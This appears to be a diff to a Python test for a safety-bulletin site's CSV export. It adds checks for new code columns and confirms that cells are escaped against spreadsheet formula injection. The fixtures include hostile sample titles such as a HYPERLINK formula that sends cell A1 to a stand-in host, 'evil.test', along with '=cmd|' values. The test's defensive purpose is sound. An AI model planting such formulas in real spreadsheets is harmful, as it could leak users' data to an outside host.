@@ -16,7 +16,7 @@ from hypothesis import given, settings, strategies as st
 
 from helpers import build
 
-from safety_bulletins.outputs.spreadsheet import FORMULA_STARTS, csv_text, directive_columns, safe_cell
+from safety_bulletins.outputs.spreadsheet import FORMULA_STARTS, code_columns, csv_text, directive_columns, safe_cell
 
 HOSTILE_TITLES = [
     '=HYPERLINK("http://evil.test/?"&A1,"Details")',
@@ -119,12 +119,15 @@ def test_directives_csv_holds_every_value_of_directives_json(hostile_site):
     data = (hostile_site / "directives.csv").read_bytes()
     assert b"\r\n" in data and data.count(b"\r\n") == len(read_csv(data))  # CRLF after every row
     rows = read_csv(data)
-    assert rows[0] == list(directive_columns())
+    assert rows[0] == [*directive_columns(), *code_columns()]
     records = json.loads((hostile_site / "directives.json").read_text(encoding="utf-8"))["directives"]
     assert [r[0] for r in rows[1:]] == [r["id"] for r in records]
     for row, record in zip(rows[1:], records):
-        *cells, history = [unquote(c) for c in row]
+        *cells, history = [unquote(c) for c in row[:-len(code_columns())]]
         assert cells == expected_cells(record)
+        codes = (record["units"], record["support"], record["status"], record["bucket"], record["grade"],
+                 record["accepted_by"], record["bulletin"]["type"])
+        assert row[-len(code_columns()):] == ["; ".join(c) if isinstance(c, list) else c or "" for c in codes]
         assert [line.rsplit(" <", 1)[1] for line in history.split("\n") if line] == \
                [h["url"] + ">" for h in record["history"]]
         for cell in row:
@@ -132,7 +135,7 @@ def test_directives_csv_holds_every_value_of_directives_json(hostile_site):
     first = dict(zip(rows[0], rows[1]))
     assert first["title"] == "'" + HOSTILE_TITLES[0] and first["bulletin_title"] == "'=cmd| hostile bulletin"
     assert first["text"].startswith("'-1 line of text\n=SUM(A1)")
-    assert first["history"] == ("2021-06-01 =Extended, \"really\": deadline 2021-06-11 → 2021-07-15 "
+    assert first["history"] == ("2021-06-01 =Extended, \"really\": deadline extended from 2021-06-11 to 2021-07-15 "
                                 "(-parts on order, 备件) <bulletins/2021/2021-06-01-re-inspection/#sb-fu-X-1>")
     register = (hostile_site / "directives" / "index.html").read_text(encoding="utf-8")
     assert '<a href="../directives.json">' in register and '<a href="../directives.csv" download>' in register
